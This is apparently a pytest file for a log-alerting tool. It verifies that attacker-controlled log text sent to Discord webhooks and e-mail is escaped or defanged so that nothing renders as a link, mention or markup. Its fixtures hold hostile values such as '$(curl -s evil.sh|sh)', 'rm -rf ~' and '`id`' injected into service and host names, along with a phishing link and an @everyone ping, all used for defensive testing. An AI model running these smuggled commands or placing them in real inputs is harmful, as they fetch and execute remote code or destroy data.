"""Log text is inert in Discord and e-mail (issue 13, item 4): every text field of the
incident and of its report is attacker-controlled, and nothing of it becomes a link,
emphasis, a spoiler, a heading, a quote, a code-block break-out or a ping.

Discord is the local server that answers as Discord's webhook endpoint does
(`notify_fakes.FakeDiscord`); e-mail goes through a real SMTP server on loopback.
"""

from __future__ import annotations

import email
import email.policy
import re
import socket
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import pytest
from markdown_it import MarkdownIt
from notify_fakes import T0, FakeDiscord, make_incident

from detector.incidents.model import RootRef
from investigate.model import (
    EvidenceItem,
    Hypothesis,
    ImpactItem,
    Report,
    RootCause,
    TimelineEntry,
)
from notify.base import Notification
from notify.digest import build_digest
from notify.discord import DiscordNotifier
from notify.email import EmailNotifier
from notify.messages import incident_opened, incident_resolved, report_ready

SERVICE = "x;reboot;`id`"
HOST = "db-02; rm -rf ~"
VICTIM = "$(curl -s evil.sh|sh)"
PHISH = "[Reset your SSO password here](https://evil.example/sso) **URGENT** ||spoiler||"
#: More of what Discord renders: a masked link in angle brackets, headings, quotes, a
#: spoiler, strike-through, underline, a timestamp, a custom emoji, a code-block break-out.
EXTRA = (
    "<https://evil.example/x> # pwned > quoted -# small __u__ ~~s~~ *i* "
    "<t:1700000000:R> <:pwn:123> ``` `tick` @everyone <@123456>"
)
#: A real kernel OOM-killer line whose victim is the hostile name (mm/oom_kill.c's wording).
OOM_LINE = (
    f"Out of memory: Killed process 4242 ({VICTIM}) total-vm:8482354kB, anon-rss:7895632kB, "
    "file-rss:0kB, shmem-rss:102400kB, UID:113 pgtables:16820kB oom_score_adj:0"
)
HOSTILE_LINE = f"FATAL: {PHISH} {EXTRA}"
AT = datetime(2026, 3, 4, 9, 59, tzinfo=UTC)

#: CommonMark with GFM's autolinks, tables and strike-through (a bare domain is no link,
#: as on GitHub and Discord).
MD = MarkdownIt("gfm-like")
MD.linkify.set({"fuzzy_link": False})


def hostile_incident():
    return make_incident(
        title=f"{SERVICE} OOM-killed on {HOST} -> {PHISH} affected",
        services=(SERVICE, VICTIM, "systemd"),
        hosts=(HOST,),
        root=RootRef(SERVICE, HOST),
        summary=f"{OOM_LINE} {HOSTILE_LINE}",
    )


def hostile_report(incident_id: int = 42) -> Report:
    """A report whose every text field comes from the logs (or a model that read them)."""
    entry = TimelineEntry(AT, SERVICE, HOST, f"OOM kill: {OOM_LINE}", 28)
    return Report(
        incident_id=incident_id,
        title=f"{SERVICE} OOM-killed on {HOST} {PHISH}",
        root_cause=RootCause(SERVICE, HOST, f"{HOSTILE_LINE} killed", 0.9, ("E1",)),
        no_root_cause=False,
        critical_failure=entry,
        impact=[ImpactItem(VICTIM, "affected", HOSTILE_LINE, ("E1",), 1)],
        timeline=[entry, TimelineEntry(AT, VICTIM, HOST, HOSTILE_LINE, 29)],
        evidence=[
            EvidenceItem(
                "E1", SERVICE, HOST, 28, HOSTILE_LINE, 0, 3, (OOM_LINE, HOSTILE_LINE), EXTRA
            )
        ],
        hypotheses=[Hypothesis(SERVICE, HOST, 80.0, (HOSTILE_LINE,), ("E1",))],
        certain=[HOSTILE_LINE],
        possible=[PHISH],
        suggested_actions=[f"run `systemctl status {SERVICE}.service` on {HOST}", PHISH],
        model=f"openai:{PHISH}",
        degraded=HOSTILE_LINE,
    )


def messages() -> list[Notification]:
    incident = hostile_incident()
    resolved = make_incident(
        title=incident.title, hosts=(HOST,), root=incident.root, resolved_at=T0 + timedelta(hours=1)
    )
    digest = build_digest([incident], T0 - timedelta(days=1), T0 + timedelta(hours=1))
    assert digest is not None
    return [
        incident_opened(incident, T0),
        report_ready(incident, hostile_report(), T0),
        incident_resolved(resolved, T0),
        digest,
    ]


# -- what "inert" means, for Discord's parser and for CommonMark ------------------------------

_DISCORD_CODE = re.compile(r"`[^`\n]*`")
_ESCAPED = re.compile(r"\\[^0-9A-Za-z\s]")


def assert_inert_on_discord(text: str) -> None:
    """Outside its code spans (one backtick, none inside) and once its backslash escapes are
    read, `text` holds nothing Discord renders: no link, emphasis, spoiler, code block,
    heading, quote, subtext, angle-bracket form or mention."""
    assert "``" not in text, text  # a second backtick would start Discord's code block
    assert "@everyone" not in text and "<@123456>" not in text
    bare = _ESCAPED.sub("", _DISCORD_CODE.sub("", text))
    for live in ("](", "[", "**", "__", "||", "~~", "<", "`", "http://", "https://", "www."):
        assert live not in bare, (live, text)
    assert not re.search(r"(?<![\w\\])\*\S|(?<![\w\\])_\S", bare), text  # *i* or _i_
    for line in text.splitlines():
        assert not re.match(r"\s*(#|>|-#)", line), line


def _tokens(text: str) -> list:
    out = []

    def walk(tokens):
        for t in tokens:
            out.append(t)
            walk(t.children or [])

    walk(MD.parse(text))
    return out


DEAD = {"link_open", "image", "html_inline", "html_block", "em_open", "s_open"}


def assert_inert_markdown(text: str) -> None:
    """CommonMark/GFM finds no link, image, HTML, emphasis, strike-through, quote or heading."""
    kinds = {t.type for t in _tokens(text)}
    assert not kinds & (DEAD | {"blockquote_open", "heading_open"}), (kinds, text)


def assert_inert_report(md: str) -> None:
    """The report's Markdown: no link, image, HTML, emphasis or strike-through at all; its
    headings and its one quote (why the model's answer was not used) are ours."""
    tokens = _tokens(md)
    assert not {t.type for t in tokens} & DEAD
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
    assert headings[0].startswith("Incident 42: ") and headings[1:] == [
        "Root cause",
        "Critical failure",
        "Impact",
        "Timeline",
        "Evidence",
        "Certain",
        "Possible",
        "Suggested actions",
    ]
    quotes = [tokens[i + 2].content for i, t in enumerate(tokens) if t.type == "blockquote_open"]
    assert len(quotes) == 1 and quotes[0].startswith("deterministic report: ")
    texts = " ".join(t.content for t in tokens if t.type == "text")
    assert "https://evil.example" not in texts


@pytest.fixture
def payloads(discord: FakeDiscord) -> list[dict]:
    notifier = DiscordNotifier(discord.url)
    for n in messages():
        notifier.send(n)
    assert discord.deliveries == len(messages())
    return [r.json for r in discord.requests]


def test_discord_shows_no_live_markdown_from_the_logs(payloads: list[dict]) -> None:
    for payload in payloads:
        assert payload["allowed_mentions"] == {"parse": []}
        embed = payload["embeds"][0]
        assert not {"url", "image", "thumbnail", "author", "video"} & embed.keys()
        texts = [embed["title"], embed.get("description", "")]
        texts += [t for f in embed.get("fields", []) for t in (f["name"], f["value"])]
        for text in texts:
            assert_inert_on_discord(text)
            assert_inert_markdown(text)


def test_discord_still_shows_what_the_logs_said(payloads: list[dict], discord: FakeDiscord):
    opened = payloads[0]["embeds"][0]
    fields = {f["name"]: f["value"] for f in opened["fields"]}
    # Log lines are code: verbatim but for backticks, which Discord's code spans cannot hold.
    assert "`primitive · x;reboot;ˋidˋ on db-02; rm -rf ~: Out of memory" in fields["Evidence"]
    assert "[Reset your SSO password here](https://evil.example/sso)" in fields["Evidence"]
    assert fields["Replay"] == "`investigate --incident 42`"
    # Names in prose are escaped, not dropped.
    assert fields["Suspected root cause"] == "x;reboot;\\`id\\` on db-02; rm -rf \\~"
    assert "systemd" not in fields["Blast radius"]  # a supervisor is never "affected"
    report = payloads[1]["embeds"][0]
    root = {f["name"]: f["value"] for f in report["fields"]}["Root cause"]
    assert "\\[Reset your SSO password here\\](`https://evil.example/sso`)" in root
    assert "\\*\\*URGENT\\*\\* \\|\\|spoiler\\|\\|" in root
    # The full report travels as a Markdown file, inert too.
    attached = discord.requests[1].files["files[0]"].decode()
    assert attached.startswith("## Incident 42: ")
    assert_inert_report(attached)
    assert "@everyone" not in attached


def test_a_cut_never_leaves_a_code_span_or_an_escape_open(discord: FakeDiscord) -> None:
    long_line = ("x" * 990 + " " + PHISH + " ") * 3
    incident = make_incident(title=PHISH * 20, summary=long_line)
    DiscordNotifier(discord.url).send(incident_opened(incident, T0))
    embed = discord.requests[0].json["embeds"][0]
    assert embed["title"].endswith("…") and len(embed["title"]) <= 256
    for f in embed["fields"]:
        assert len(f["value"]) <= 1024
        assert_inert_on_discord(f["value"])
        for line in f["value"].splitlines():
            assert line.count("`") % 2 == 0, line


def test_an_old_queued_message_is_rendered_inert_too(discord: FakeDiscord) -> None:
    # A message queued before `code` existed: three items per section, a backticked replay.
    old = incident_opened(hostile_incident(), T0).to_json()
    old["sections"] = [[name, value, inline] for name, value, inline, _ in old["sections"]]
    DiscordNotifier(discord.url).send(Notification.from_json(old))
    for f in discord.requests[0].json["embeds"][0]["fields"]:
        assert_inert_on_discord(f["value"])


# -- e-mail ----------------------------------------------------------------------------------

aiosmtpd = pytest.importorskip("aiosmtpd", reason="aiosmtpd is a dev dependency")
from aiosmtpd.controller import Controller  # noqa: E402


class Inbox:
    def __init__(self) -> None:
        self.messages: list[bytes] = []

    async def handle_DATA(self, server, session, envelope):
        self.messages.append(envelope.content)
        return "250 OK"


@pytest.fixture
def inbox() -> Iterator[tuple[Controller, Inbox]]:
    box = Inbox()
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    controller = Controller(box, hostname="127.0.0.1", port=port)
    controller.start()
    yield controller, box
    controller.stop()


def test_an_email_holds_no_link_from_the_logs(inbox) -> None:
    controller, box = inbox
    notifier = EmailNotifier(
        "127.0.0.1", controller.port, "none", "logvigil@example.org", ["ops@example.org"], timeout=5
    )
    for n in messages():
        notifier.send(n)
    assert len(box.messages) == len(messages())
    for raw in box.messages:
        msg = email.message_from_bytes(raw, policy=email.policy.default)
        plain = msg.get_body(("plain",)).get_content()
        html = msg.get_body(("html",)).get_content()
        for text in (msg["Subject"], plain, html):
            # Mail clients link any URL they see: none is left to link.
            assert not re.search(r"(?i)\b(?:https?|ftp)://|\bwww\.", text), text
        assert "<a " not in html.lower() and "<script" not in html.lower()
    first = email.message_from_bytes(box.messages[0], policy=email.policy.default)
    plain = first.get_body(("plain",)).get_content()
    # What the line said stays readable: the link's target is shown, defanged.
    assert "[Reset your SSO password here](hxxps://evil[.]example/sso)" in plain
    assert f"({VICTIM})" in plain
